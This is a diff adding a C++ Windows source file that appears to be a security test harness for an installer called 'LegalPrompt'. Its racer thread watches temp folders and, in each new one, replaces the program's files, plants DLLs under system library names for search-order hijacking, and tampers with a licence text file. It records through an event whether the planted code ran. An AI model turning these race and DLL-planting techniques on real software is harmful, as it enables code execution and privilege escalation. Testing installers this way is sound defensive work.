@@ -1,0 +1,220 @@
+#include "attack.h"
+
+#include <psapi.h>
+
+#include <algorithm>
+#include <cstdlib>
+#include <cstring>
+#include <map>
+#include <set>
+
+namespace {
+
+const char kPlantedEvent[] = "LegalPromptPlantedRan";
+
+HANDLE planted_event()
+{
+    static HANDLE event = CreateEventA(nullptr, TRUE, FALSE, kPlantedEvent);
+    return event;
+}
+
+bool exists(const std::string &path) { return GetFileAttributesA(path.c_str()) != INVALID_FILE_ATTRIBUTES; }
+
+HANDLE own_token()
+{
+    HANDLE token = nullptr;
+    OpenProcessToken(GetCurrentProcess(), TOKEN_QUERY, &token);
+    return token;
+}
+
+bool limited = false;
+
+}  // namespace
+
+std::string planted_dir() { return getenv("LEGALPROMPT_PLANTED") ? getenv("LEGALPROMPT_PLANTED") : ""; }
+
+bool planted_code_ran()
+{
+    bool ran = WaitForSingleObject(planted_event(), 0) == WAIT_OBJECT_0;
+    ResetEvent(planted_event());
+    return ran;
+}
+
+bool is_prompt_folder(const char *name)
+{
+    if (strncmp(name, "lp", 2) || strlen(name) != 18) return false;
+    return std::all_of(name + 2, name + 18, [](char c) { return (c >= '0' && c <= '9') || (c >= 'a' && c <= 'f'); });
+}
+
+std::vector<std::string> prompt_folders(const std::string &dir)
+{
+    std::vector<std::string> found;
+    WIN32_FIND_DATAA data;
+    HANDLE search = FindFirstFileA((dir + "lp*").c_str(), &data);
+    if (search == INVALID_HANDLE_VALUE) return found;
+    do {
+        if ((data.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY) && is_prompt_folder(data.cFileName))
+            found.push_back(dir + data.cFileName);
+    } while (FindNextFileA(search, &data));
+    FindClose(search);
+    return found;
+}
+
+std::string system_temp()
+{
+    char windows[MAX_PATH];
+    GetSystemWindowsDirectoryA(windows, MAX_PATH);
+    return std::string(windows) + "\\temp\\";
+}
+
+Racer::Racer(const std::vector<std::string> &dirs) : watched(dirs)
+{
+    planted_code_ran();  // from now on
+    thread = std::thread([this] {
+        std::set<std::string> known;
+        for (const std::string &dir : watched)
+            for (const std::string &folder : prompt_folders(dir)) known.insert(folder);
+        std::map<std::string, std::set<std::string>> planted;  // what was put in each folder once
+        while (!stop) {
+            for (const std::string &dir : watched)
+                for (const std::string &folder : prompt_folders(dir)) {
+                    if (known.insert(folder).second) seen++;
+                    race(folder, planted[folder]);
+                }
+            Sleep(0);
+        }
+    });
+}
+
+Racer::~Racer()
+{
+    stop = true;
+    thread.join();
+}
+
+// One try of each attack, as soon as the one before has failed: the prompt's files replaced
+// where they are, deleted, or planted under their names before the prompt's own are written;
+// DLLs put beside the program.  What is planted is planted once, so that the folder can go.
+void Racer::race(const std::string &folder, std::set<std::string> &planted)
+{
+    const std::string dll = planted_dir() + "planted.dll", program = planted_dir() + "substitute.exe";
+    const struct {
+        const char *name;
+        const std::string *with;
+    } files[] = {{"legalprompt.dll", &dll}, {"legalpromptw.exe", &program}, {"shcore.dll", &dll},
+                 {"version.dll", &dll}, {"uxtheme.dll", &dll}, {"dwmapi.dll", &dll}, {"comctl32.dll", &dll},
+                 {"shell32.dll", &dll}, {"imm32.dll", &dll}, {"msimg32.dll", &dll}};
+    for (const auto &file : files) {
+        std::string at = folder + "\\" + file.name;
+        bool own = !strcmp(file.name, "legalprompt.dll") || !strcmp(file.name, "legalpromptw.exe");
+        if (exists(at)) {
+            if (own && CopyFileA(file.with->c_str(), at.c_str(), FALSE)) swapped++;
+        } else if (planted.insert(file.name).second && CopyFileA(file.with->c_str(), at.c_str(), TRUE)) {
+            added++;
+        }
+    }
+    std::string text = folder + "\\liscn.txt";
+    if (DeleteFileA(text.c_str())) swapped++;
+    HANDLE file = CreateFileA(text.c_str(), GENERIC_WRITE, FILE_SHARE_READ | FILE_SHARE_WRITE, nullptr,
+                              planted.insert("liscn.txt").second ? OPEN_ALWAYS : OPEN_EXISTING, 0, nullptr);
+    if (file != INVALID_HANDLE_VALUE) {
+        DWORD written;
+        if (WriteFile(file, "A PLANTED TEXT\r\n", 16, &written, nullptr) && written == 16) swapped++;
+        CloseHandle(file);
+    }
+}
+
+HANDLE limited_token()
+{
+    static HANDLE token = [] {
+        HANDLE own = own_token(), primary = nullptr;
+        TOKEN_LINKED_TOKEN linked;
+        DWORD size;
+        if (own && GetTokenInformation(own, TokenLinkedToken, &linked, sizeof linked, &size)) {
+            DuplicateTokenEx(linked.LinkedToken, TOKEN_ALL_ACCESS, nullptr, SecurityImpersonation, TokenPrimary,
+                             &primary);
+            CloseHandle(linked.LinkedToken);
+        }
+        if (own) CloseHandle(own);
+        return primary;
+    }();
+    return token;
+}
+
+void run_limited(bool on) { limited = on; }
+bool running_limited() { return limited; }
+
+bool elevated()
+{
+    HANDLE token = own_token();
+    TOKEN_ELEVATION elevation = {};
+    DWORD size;
+    bool is = token && GetTokenInformation(token, TokenElevation, &elevation, sizeof elevation, &size) &&
+              elevation.TokenIsElevated;
+    if (token) CloseHandle(token);
+    return is;
+}
+
+std::vector<std::string> modules_of(DWORD pid)
+{
+    std::vector<std::string> paths;
+    HANDLE process = OpenProcess(PROCESS_QUERY_INFORMATION | PROCESS_VM_READ, FALSE, pid);
+    if (!process) return paths;
+    HMODULE modules[512];
+    DWORD needed = 0;
+    if (EnumProcessModules(process, modules, sizeof modules, &needed)) {
+        for (DWORD i = 0; i < needed / sizeof *modules && i < 512; i++) {
+            char path[MAX_PATH];
+            if (GetModuleFileNameExA(process, modules[i], path, MAX_PATH)) {
+                std::string lower = path;
+                std::transform(lower.begin(), lower.end(), lower.begin(), ::tolower);
+                paths.push_back(lower);
+            }
+        }
+    }
+    CloseHandle(process);
+    return paths;
+}
+
+std::string image_of(DWORD pid)
+{
+    HANDLE process = OpenProcess(PROCESS_QUERY_LIMITED_INFORMATION, FALSE, pid);
+    char path[MAX_PATH] = "";
+    DWORD size = MAX_PATH;
+    if (process) {
+        QueryFullProcessImageNameA(process, 0, path, &size);
+        CloseHandle(process);
+    }
+    return path;
+}
+
+void set_temp_wide(const std::wstring &dir)
+{
+    SetEnvironmentVariableW(L"TEMP", dir.c_str());
+    SetEnvironmentVariableW(L"TMP", dir.c_str());
+}
+
+bool make_dir_wide(const std::wstring &dir) { return CreateDirectoryW(dir.c_str(), nullptr) != 0; }
+
+bool empty_wide(const std::wstring &dir)
+{
+    WIN32_FIND_DATAW data;
+    HANDLE search = FindFirstFileW((dir + L"\\*").c_str(), &data);
+    if (search == INVALID_HANDLE_VALUE) return true;
+    bool empty = true;
+    do {
+        std::wstring name = data.cFileName;
+        if (name != L"." && name != L"..") empty = false;
+    } while (FindNextFileW(search, &data));
+    FindClose(search);
+    return empty;
+}
+
+void remove_dir_wide(const std::wstring &dir) { RemoveDirectoryW(dir.c_str()); }
+
+std::wstring widen(const std::string &text)
+{
+    std::wstring wide(text.size(), L'\0');
+    wide.resize(MultiByteToWideChar(CP_ACP, 0, text.data(), (int)text.size(), &wide[0], (int)wide.size()));
+    return wide;
+}
